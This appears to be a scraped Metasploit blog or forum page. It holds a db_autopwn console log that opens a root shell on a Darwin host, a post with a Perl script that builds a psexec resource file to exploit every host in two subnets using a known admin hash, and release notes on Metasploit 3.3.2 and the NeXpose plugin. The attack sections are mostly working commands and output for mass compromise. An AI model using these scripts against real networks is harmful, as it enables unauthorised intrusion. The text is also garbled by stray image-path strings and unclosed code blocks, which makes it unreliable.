[*]   XX.YY.37.182:139  exploit/osx/samba/lsa_transnames_heap  (CVE-2007-2446, OSVDB-34699)
[*]   XX.YY.32.2:445  exploit/osx/samba/lsa_transnames_heap  (CVE-2007-2446, OSVDB-34699)
[*]   XX.YY.35.195:445  exploit/windows/smb/psexec  (CVE-1999-0504, CVE-1999-0504, CVE-1999-0504, CVE-1999-0504)
[*]   XX.YY.32.2:139  exploit/osx/samba/lsa_transnames_heap  (CVE-2007-2446, OSVDB-34699)
[*]   XX.YY.44.223:139  exploit/solaris/samba/trans2open  (CVE-2003-0201, BID-7294)
[*]   XX.YY.44.223:139  exploit/multi/samba/nttrans  (CVE-2003-0085, BID-7106)
[*]   XX.YY.47.203:135  exploit/windows/dcerpc/ms03_026_dcom  (CVE-2003-0352, BID-8205)
[*]   XX.YY.47.203:445  exploit/windows/smb/ms06_040_netapi  (CVE-2006-3439)
[*]   XX.YY.72.243:445  exploit/windows/smb/ms08_067_netapi  (NEXPOSE-dcerpc-ms-netapi-netpathcanonicalize-dos)
[*]   XX.YY.72.243:445  exploit/windows/smb/ms06_040_netapi  (CVE-2006-3439)
[*]   XX.YY.37.182:445  exploit/osx/samba/lsa_transnames_heap  (CVE-2007-2446, OSVDB-34699)
[*]   XX.YY.34.236:135  exploit/windows/dcerpc/ms03_026_dcom  (CVE-2003-0352, BID-8205)
[*]XX.YY.41.188:135  exploit/windows/dcerpc/ms03_026_dcom  (CVE-2003-0352, BID-8205)
[*]   XX.YY.41.188:445  exploit/windows/smb/ms06_040_netapi  (CVE-2006-3439)


msf exploit(psexec) > db_autopwn -b -x -t -R excellent
[*]   XX.YY.44.223:1220  exploit/unix/webapp/qtss_parse_xml_exec  (CVE-2003-0050, BID-6954)
[*]   XX.YY.77.234:445  exploit/windows/smb/psexec  (CVE-1999-0504, CVE-1999-0504, CVE-1999-0504, CVE-1999-0504)
[*]   XX.YY.35.195:445  exploit/windows/smb/psexec  (CVE-1999-0504, CVE-1999-0504, CVE-1999-0504, CVE-1999-0504)


msf exploit(psexec) > db_autopwn -b -x -R excellent -e
[*] (1/3 [0 sessions]): Launchingexploit/unix/webapp/qtss_parse_xml_exec against XX.YY.44.223:1220...
[*] (2/3 [0 sessions]): Launchingexploit/windows/smb/psexec against XX.YY.77.234:445...
[*] (3/3 [0 sessions]): Launching exploit/windows/smb/psexec against XX.YY.35.195:445...
[*] (3/3 [0 sessions]): Waiting on 3 launched modules to finish execution...
[*] Commandshell session 1 opened ( -> XX.YY.44.223:32554)
[*] (3/3 [1 sessions]): Waiting on 1 launched modules to finish execution...
[*] (3/3 [1 sessions]): Waiting on 1 launched modules to finish execution...
[*] The autopwn command has completed with 1 sessions


Active sessions
  Id Description Tunnel Via
  --  ---  ---  ---
  1   Command shell -> XX.YY.44.223:32554  unix/webapp/qtss_parse_xml_exec


msf exploit(psexec) > sessions -i 1
[*] Starting interaction with 1...uname -a
Darwin mactgts 5.5 Darwin Kernel Version 5.5: Thu May 30 14:51:26 PDT 2002; root:xnu/xnu-201.42.3.obj~1/RELEASE_PPC  Power Macintosh powerpc


uid=0(root) gid=0(wheel) groups=0(wheel)

Originally Posted by Jabra



Metasploit's pexec module is one of my favorite modules. It does exactly what I need and it does it really well. One thing I wish that Metasploit had, is a scanner version of the psexec exploit module. So I decided tobuild my own with Perl.

Okay, assume we have the following networks:, etc etc... We know the local admin account is Administrator and the hash for the account is ADMINISTRATOR:HASH.

First, we build a small Perl script to generate a configuration file:


#!/usr/bin/perl -w
use strict;
print "use windows/smb/psexec\n";
print "set SMBUser Administrator\n";
print "set PAYLOAD windows/meterpreter/bind_tcp\n";
# first range

foreach(1.. 254) {print "set RHOST 192.168.1.$_\n";
  print "exploit\n";
  print "sleep 2\n";
# second range

foreach(1.. 254) {
  print "set RHOST 192.168.2.$_\n";
  print "exploit\n";
  print "sleep 2\n";

Once we have this script built, we simply execute it and save the result to a file named psexec.rc.


perl > psexec.rc


Lastly, we leverage Metasploit's ability to execute commands passed into meterpreter via an resource file. Once Metasploit loads psexc.rc, it will execute all of the commands we generated using the Perl script. This basically gives us a nice way to create an exploit scanner.


msfconsole -r psexec.rcLoading psexec.rc will exploit all of the systems within the networks specified and the result will be tons and tons of shells.


Originally Posted by hdm



Last week we released Metasploit 3.3.2 following on the heels of Metasploit 3.3.1. This release marked a major change to how the Meterpreter backendprocessed commands; instead of running each request serially, the Meterpreter now spawns a background thread for each request. This allows for multiple scripts to access the same Meterpreter instance at the same time and vastly improves the pivoting functionality. Version 3.3.2 also added support for a standards-compliant XMLRPC server, enhanced the NeXpose Plugin, updated the Oracle mixins, cleaned up the database backend, and fixed 45 bugs. Rapid7 also released an update for NeXpose Community Edition that provides PDF and HTML reporting and adds vulnerability checks for the past Microsoft Tuesday.


We plan to release version 3.3.3 before the end of the year, with a focus on exploit ranking, improving the WMAP web scanner, and expanding our WiFi functionality through Lorcon2.


For those unfamiliar with WMAP, think of it as a web app scanner that has been deconstructed into individual tests. Every security test performed by WMAP can be executed as part of an automated scan or manually as an auxiliary module. Data from one type of scanner module can be fed into another type, which in turn gathers even more data, and so on. The slick part is that these modules have access to the entire Metasploit API,including exploits, payloads, and protocol stacks. It is completely possible to write a WMAP analysis module that leverages information from a web application to compromise another system (using leaked MSSQL credentials, etc).Recent (post 3.3.2) updates to WMAP included a massively expanded directory scanner (based on's own web logs) and updates to the underlying database schema.


On the wireless front, Metasploit has had hostile AP and wireless driver (ring-0) exploits for many years, but until recently we had no way to watch WiFi traffic and interact with a specific device. With the introduction of Lorcon2 support in Metasploit 3.3, we can now port nearly any WiFi tool to a Metasploit module. Mike Kershaw has demonstrated this by porting airpwn and dnspwn to Metasploit, providing great examples of how to use the new API.


As always, the best way to follow development is to watch the activity log from the Metasploit tracker. The last few months have been a whirlwind of development, but the really fun stuff is yet to come :)

Originally Posted by hdm



OnDecember 1st, Rapid7 announced the Community Edition of the NeXpose vulnerability management product. At the same time, we released version 3.3.1 of the Metasploit Framework, which contains the first step towards full integration between NeXpose and Metasploit. Since the release, we have made some major improvements based on community feedback and I wanted to take a minute to walk through some of the new features.


The Community Edition of NeXpose is based on the same product as the enterprise versions, but it does have a few restrictions. The community license limits the number of managed IPs to 32, disables web application scanning, and doesn't provide configurable scan templates or discovery mode. The Community Edition does not include commercial support, but a Community Portal has been setup to answer common questions and promote discussion around the product. Other than that, it is essentially an enterprise-grade vulnerability management solution available at no cost.


The Metasploit integration is implemented through the NeXpose Plugin. This plugin can be loaded from the Metasploit console and provides the ability to launch vulnerability scansand automatically import the results using a NeXpose instance (either local or remote). Commercial penetration testing tools have had support for importing vulnerability data for a long time, but these products have left the vulnerability assessment and data import steps as a manual process.


The NeXpose plugin not only combines these steps into a singlecommand, but it can also automatically launch exploit modules after the scan is completed. As of update r7681 this plugin can also launch scans based on a existing database results, such as those imported through Nmap and other tools. Even if you don't actually use Metasploit on a day-to-day basis, this plugin can be useful in that it tells you what Metasploit modules could potentially compromise a target and help prioritize remediation efforts.


Formore information on the NeXpose plugin, including a walkthrough on using the plugin to automatically scan and compromise a target,please see the Quick Start Guide on the Metasploit wiki.Filter Blog

By date: By tag: